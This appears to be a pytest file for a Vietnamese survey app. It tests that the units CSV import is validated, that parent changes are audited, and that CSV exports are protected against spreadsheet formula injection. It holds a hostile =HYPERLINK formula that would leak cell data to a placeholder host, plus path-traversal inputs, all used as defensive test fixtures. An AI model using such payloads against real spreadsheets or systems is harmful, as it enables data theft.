"""Issue 14: the units CSV import applies the admin form's checks to every row and itemises each
parent change in the audit log; every CSV the app writes is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from survey_app.admin import administration, audit, units
from survey_app.collection import links, qr
from survey_app.core import config
from survey_app.db.store import Store

FORMULA = '=HYPERLINK("http://x/?leak="&A1,"bấm")'


@pytest.fixture(autouse=True)
def _data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(config, "DATA_DIR", tmp_path / "data")
    monkeypatch.delenv("SIPAS_SECRET", raising=False)


@pytest.mark.parametrize(("row", "why"), [
    ("x" * 300 + ",Phường Dài,huyen,", "Mã"),
    ("../../x y/Z,Phường Lạ,huyen,", "Mã"),
    ("p-hoa,Phường Hoa,huyen,../etc", "Mã"),
    ("p-dai," + "Tên " * 60 + ",huyen,", "Tên"),
    ("p-cach,   ,huyen,", ""),
])
def test_units_csv_rows_get_the_admin_forms_checks(store: Store, row: str, why: str) -> None:
    preview = administration.preview_units_import(store, "unit_id,name,block,parent_id\n" + row + "\n")
    assert len(preview.problems) == 1 and preview.problems[0].startswith("dòng 2:")
    assert why in preview.problems[0]
    with pytest.raises(ValueError):
        units.read_units_csv("unit_id,name,block,parent_id\n" + row + "\n")  # init --units too


def test_every_parent_change_of_an_import_is_in_the_audit_log(store: Store) -> None:
    text = ("unit_id,name,block,parent_id\n"
            "q-cau-giay,Quận Cầu Giấy,huyen,q-ba-dinh\n"  # moved: Ba Đình's leader now sees it
            "q-ba-dinh,Quận Ba Đình,huyen,\n")
    administration.import_units(store, "quan-tri", administration.preview_units_import(store, text))
    moved = [(e.action, e.target, e.detail) for e in audit.read(store, action="unit.parent")]
    assert moved == [("unit.parent", "q-cau-giay", "- → q-ba-dinh")]


def test_the_posters_list_is_safe_in_a_spreadsheet(store: Store) -> None:
    store.write(lambda con: con.execute("UPDATE units SET name = ? WHERE unit_id = 'so-tu-phap'", [FORMULA]))
    store.write(lambda con: con.execute("UPDATE counters SET name = '@SUM(1)' WHERE unit_id = 'so-tu-phap'"))
    places = links.tree_links(store, "sipas-dvc", root="so-tu-phap")
    archive = zipfile.ZipFile(io.BytesIO(qr.posters_zip(places, "a5")))
    row = next(csv.DictReader(io.StringIO(archive.read("danh-sach.csv").decode("utf-8-sig"))))
    assert (row["unit_name"], row["counter_name"]) == ("'" + FORMULA, "'@SUM(1)")


def test_the_raw_csv_export_is_safe_in_a_spreadsheet(store: Store) -> None:
    from factories import dvc_response

    store.write(lambda con: con.execute("INSERT INTO counters VALUES ('so-tu-phap', '-quay', '-', TRUE)"))
    store.submit(dvc_response(unit_id="so-tu-phap", counter_id="-quay"))
    archive = administration.export_raw(store, "test", "csv")
    with zipfile.ZipFile(archive) as zf:
        rows = list(csv.DictReader(io.StringIO(zf.read("responses.csv").decode("utf-8"))))
    assert [r["counter_id"] for r in rows] == ["'-quay"]
    cells = [cell for name in ("answers.csv", "choices.csv") for cell in
             zipfile.ZipFile(archive).read(name).decode().replace("\n", ",").split(",")]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
